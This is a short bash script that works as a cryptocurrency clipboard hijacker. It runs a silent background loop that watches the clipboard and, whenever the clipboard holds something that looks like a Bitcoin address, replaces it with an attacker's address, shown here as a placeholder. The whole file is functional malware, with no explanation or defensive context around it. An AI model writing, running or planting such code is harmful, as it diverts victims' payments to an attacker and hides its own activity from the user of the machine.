#!/bin/bash
mine=bc1qevilexampleevilexampleevilexampleevil
while :; do
  if xclip -o -selection clipboard | grep -qE '^(bc1|[13])[a-zA-Z0-9]{25,}$'; then
    printf %s "$mine" | xclip -selection clipboard
  fi
  sleep 1
done > /dev/null 2>&1 &
